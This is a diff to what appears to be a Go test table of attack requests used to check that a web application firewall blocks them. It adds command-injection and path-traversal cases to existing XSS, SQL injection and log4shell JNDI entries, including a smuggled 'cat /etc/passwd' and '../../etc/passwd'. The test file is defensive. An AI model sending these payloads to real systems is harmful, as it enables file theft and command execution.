@@ -28,6 +28,10 @@ var attacks = []struct {
 	{"xss query", "GET", "/v1/search?q=" + q("<script>alert(1)</script>"), nil, ""},
 	{"xss json body", "POST", "/v1/comments", jsonHeader(), `{"text":"<script>alert(1)</script>"}`},
 	{"sqli json body", "POST", "/v1/login", jsonHeader(), `{"user":"admin' OR 1=1--","password":"x"}`},
+	// Caught only by rules pruning may remove (not libinjection's): they
+	// must stay when a body is handed to Coraza.
+	{"command injection json body", "POST", "/v1/ping", jsonHeader(), `{"host":"127.0.0.1;cat /etc/passwd"}`},
+	{"path traversal form body", "POST", "/v1/files", http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}, "file=" + q("../../etc/passwd")},
 	{"command injection", "GET", "/v1/ping?host=" + q("127.0.0.1;cat /etc/passwd"), nil, ""},
 	{"path traversal", "GET", "/v1/files?file=" + q("../../etc/passwd"), nil, ""},
 	{"log4shell user-agent", "GET", "/v1/items", http.Header{"User-Agent": {"${jndi:ldap://x/a}"}}, ""},
